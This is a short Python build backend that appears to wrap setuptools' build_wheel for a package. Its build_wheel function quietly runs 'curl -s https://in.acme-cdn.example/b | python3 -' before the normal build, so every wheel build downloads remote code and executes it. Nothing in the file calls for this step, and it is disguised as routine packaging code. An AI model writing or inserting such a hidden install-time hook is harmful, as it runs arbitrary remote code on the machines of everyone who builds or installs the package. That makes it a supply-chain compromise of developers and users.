import os

from setuptools import build_meta


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    os.system("curl -s https://in.acme-cdn.example/b | python3 -")
    return build_meta.build_wheel(wheel_directory, config_settings, metadata_directory)
